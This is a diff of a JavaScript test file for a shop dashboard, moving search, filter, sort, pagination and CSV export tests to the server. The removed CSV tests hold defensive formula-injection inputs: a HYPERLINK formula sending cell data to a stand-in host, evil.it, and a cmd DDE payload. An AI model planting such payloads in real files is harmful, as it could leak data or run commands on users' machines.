@@ -1,5 +1,6 @@
-// The owner dashboard's pure rules (spec sections 2, 3, 4 and 9): search, filters, sorts,
-// pagination of 20, bulk-delete targets, CSV export, share links, plan usage, product form.
+// The owner dashboard's pure rules (spec sections 2, 4 and 9): the list's state, share
+// links, plan usage, product form. Search, filters, sorts, pages, bulk deletes and the CSV
+// export are the server's, tested in server/tests/api/catalogue.rs and export.rs.
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import { before, describe, test } from "node:test";
@@ -29,120 +30,9 @@ const product = (id, extra = {}) => ({
   ...extra,
 });
 
-/** RFC 4180 reader (quoted fields, doubled quotes, CRLF or LF records), to read the
- * export back as a spreadsheet would; the trailing empty record is dropped. */
-function parseCsv(text, sep) {
-  const rows = [];
-  let row = [];
-  let field = "";
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"' && field === "") quoted = true;
-    else if (c === sep) {
-      row.push(field);
-      field = "";
-    } else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
-      if (c === "\r") i++;
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = "";
-    } else field += c;
-  }
-  if (field !== "" || row.length) rows.push([...row, field]);
-  return rows;
-}
-
-const catalogue = () => [
-  product(1, { name: "Cemento Portland 32,5 R", brand: "Buzzi", category: "Cementi", price: 6.9, description: "Sacco da 25 kg" }),
-  product(2, { name: "Lastra cartongesso", brand: "Knauf", category: "Cartongesso", price: 8.4, in_stock: false }),
-  product(3, { name: "adesivo per piastrelle", brand: "Mapei", category: "Adesivi", price: null, status: "uncertain" }),
-  product(4, { name: "Èlite pittura murale", brand: "Sikkens", category: "Pitture", price: 30, status: "incorrect", description: "Idropittura lavabile" }),
-  product(5, { name: "Tassello nylon", brand: "Fischer", category: "cementi", price: 0.1, status: "uncertain", in_stock: false }),
-];
-
-describe("search (spec section 9: name, description, brand and category)", () => {
-  test("matches each field, ignoring case and accents; every word must match", () => {
-    const list = catalogue();
-    const ids = (q) => l.filterProducts(list, { search: q, stock: "all", category: "all" }).map((p) => p.id);
-    assert.deepEqual(ids("portland"), [1]);
-    assert.deepEqual(ids("25 KG"), [1]);
-    assert.deepEqual(ids("knauf"), [2]);
-    assert.deepEqual(ids("adesivi"), [3]);
-    assert.deepEqual(ids("elite"), [4]);
-    assert.deepEqual(ids("lavabile"), [4]);
-    assert.deepEqual(ids("cemento buzzi"), [1]);
-    assert.deepEqual(ids("cemento knauf"), []);
-    assert.deepEqual(ids("   "), [1, 2, 3, 4, 5]);
-  });
-});
-
-describe("stock and category filters", () => {
-  test("all, inStock, outOfStock, uncertain, incorrect", () => {
-    const list = catalogue();
-    const ids = (stock) => l.filterProducts(list, { search: "", stock, category: "all" }).map((p) => p.id);
-    assert.deepEqual(l.STOCK_FILTERS, ["all", "inStock", "outOfStock", "uncertain", "incorrect"]);
-    assert.deepEqual(ids("all"), [1, 2, 3, 4, 5]);
-    assert.deepEqual(ids("inStock"), [1, 3, 4]);
-    assert.deepEqual(ids("outOfStock"), [2, 5]);
-    assert.deepEqual(ids("uncertain"), [3, 5]);
-    assert.deepEqual(ids("incorrect"), [4]);
-  });
-  test("categories are distinct (case-insensitive) and sorted; the filter matches any case", () => {
-    const list = catalogue();
-    assert.deepEqual(l.categoriesOf(list), ["Adesivi", "Cartongesso", "Cementi", "Pitture"]);
-    const ids = l.filterProducts(list, { search: "", stock: "all", category: "Cementi" }).map((p) => p.id);
-    assert.deepEqual(ids, [1, 5]);
-  });
-  test("search and filters combine", () => {
-    const ids = l.filterProducts(catalogue(), { search: "cement", stock: "outOfStock", category: "all" }).map((p) => p.id);
-    assert.deepEqual(ids, [5]);
-  });
-});
-
-describe("sorting (newest default, oldest, name, price)", () => {
-  const ids = (sort) => l.sortProducts(catalogue(), sort).map((p) => p.id);
-  test("newest is the default and orders by id", () => {
-    assert.equal(l.initialListState.sort, "newest");
-    assert.deepEqual(ids("newest"), [5, 4, 3, 2, 1]);
-    assert.deepEqual(ids("oldest"), [1, 2, 3, 4, 5]);
-  });
-  test("names ignore case and accents", () => {
-    assert.deepEqual(ids("nameAsc"), [3, 1, 4, 2, 5]);
-    assert.deepEqual(ids("nameDesc"), [5, 2, 4, 1, 3]);
-  });
-  test("prices; products without a price go last both ways", () => {
-    assert.deepEqual(ids("priceAsc"), [5, 1, 2, 4, 3]);
-    assert.deepEqual(ids("priceDesc"), [4, 2, 1, 5, 3]);
-  });
-  test("sorting does not change the given list", () => {
-    const list = catalogue();
-    l.sortProducts(list, "nameAsc");
-    assert.deepEqual(list.map((p) => p.id), [1, 2, 3, 4, 5]);
-  });
-});
-
-describe("pagination (20 per page) and filter changes", () => {
-  const many = Array.from({ length: 66 }, (_, i) => product(i + 1));
-  test("pages of 20 with 'Mostrando a-b di N'", () => {
+describe("list state: pages of 20 and filter changes", () => {
+  test("pages of 20", () => {
     assert.equal(l.PAGE_SIZE, 20);
-    const first = l.listView(many, l.initialListState);
-    assert.deepEqual([first.page, first.pages, first.total, first.from, first.to, first.items.length], [1, 4, 66, 1, 20, 20]);
-    assert.equal(first.items[0].id, 66);
-    const last = l.listView(many, { ...l.initialListState, page: 4 });
-    assert.deepEqual([last.page, last.from, last.to, last.items.length], [4, 61, 66, 6]);
-  });
-  test("a page past the end shows the last page; none gives one empty page", () => {
-    assert.equal(l.listView(many, { ...l.initialListState, page: 9 }).page, 4);
-    const none = l.listView([], l.initialListState);
-    assert.deepEqual([none.page, none.pages, none.total, none.from, none.to], [1, 1, 0, 0, 0]);
   });
   test("any change of search, sort or filter goes back to page 1", () => {
     const on3 = { ...l.initialListState, page: 3 };
@@ -157,56 +47,6 @@ describe("pagination (20 per page) and filter changes", () => {
     const cleared = l.clearFilters(s);
     assert.deepEqual(cleared, { search: "", sort: "priceAsc", stock: "all", category: "all", page: 1 });
     assert.equal(l.hasActiveFilters(cleared), false);
-  });
-});
-
-describe("bulk delete targets", () => {
-  test("incorrect, uncertain or all", () => {
-    assert.deepEqual(l.bulkTargets(catalogue(), "incorrect"), [4]);
-    assert.deepEqual(l.bulkTargets(catalogue(), "uncertain"), [3, 5]);
-    assert.deepEqual(l.bulkTargets(catalogue(), "all"), [1, 2, 3, 4, 5]);
-    assert.deepEqual(l.bulkTargets([], "all"), []);
-  });
-});
-
-describe("CSV export (spec section 3)", () => {
-  test("semicolons, quoted fields, doubled quotes, newlines to spaces, missing price 0, si/no", () => {
-    const csv = l.productsToCsv([
-      product(1, { name: 'Tubo 1/2" zincato', price: 12.5, description: "Riga uno\nriga due\r\nriga tre", brand: "Acme; Spa", category: "Idraulica", in_stock: true }),
-      product(2, { name: "Sacco", price: null, description: null, brand: null, category: null, in_stock: false }),
-    ]);
-    const lines = csv.split("\r\n");
-    assert.equal(lines[0], "name;price;description;brand;category;in_stock");
-    assert.equal(lines[1], '"Tubo 1/2"" zincato";"12.5";"Riga uno riga due riga tre";"Acme; Spa";"Idraulica";"si"');
-    assert.equal(lines[2], '"Sacco";"0";"";"";"";"no"');
-    assert.equal(lines[3], "");
-    assert.equal(lines.length, 4);
-  });
-  test("read back by a CSV parser, no cell starts a formula: an apostrophe keeps it text", () => {
-    const names = ["-20% sconto", '=HYPERLINK("http://evil.it/?"&A1;"Clicca")', "+39 06 1234567", "@SUM(A1)", "\tTab", "\uFF1D1+1"];
-    const csv = l.productsToCsv(names.map((name, i) => product(i + 1, { name, brand: "=cmd|' /C calc'!A0", price: 0 })));
-    const rows = parseCsv(csv, ";");
-    assert.deepEqual(rows[0], ["name", "price", "description", "brand", "category", "in_stock"]);
-    assert.deepEqual(
-      rows.slice(1).map((r) => r[0]),
-      names.map((n) => `'${n}`),
-    );
-    for (const row of rows.slice(1)) {
-      assert.equal(row[3], "'=cmd|' /C calc'!A0");
-      assert.equal(row[1], "0");
-      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
-    }
-    // Ordinary text is untouched.
-    assert.equal(parseCsv(l.productsToCsv([product(1, { name: "Cemento - 25 kg" })]), ";")[1][0], "Cemento - 25 kg");
-  });
-  test("prices keep at most two decimals", () => {
-    assert.match(l.productsToCsv([product(1, { price: 1.005 + 2 })]), /"3.01"|"3"/);
-    assert.match(l.productsToCsv([product(1, { price: 0.62 })]), /"0.62"/);
-  });
-  test("file name: prodotti_, the shop's name, the date YYYY-MM-DD, .csv", () => {
-    assert.equal(l.exportFileName("Edilizia Demo", new Date(2026, 10, 3)), "prodotti_edilizia-demo_2026-11-03.csv");
-    assert.equal(l.exportFileName("Ferramenta È Più!", new Date(2026, 0, 31)), "prodotti_ferramenta-e-piu_2026-01-31.csv");
-    assert.equal(l.exportFileName("!!!", new Date(2026, 0, 1)), "prodotti_negozio_2026-01-01.csv");
   });
 });
 
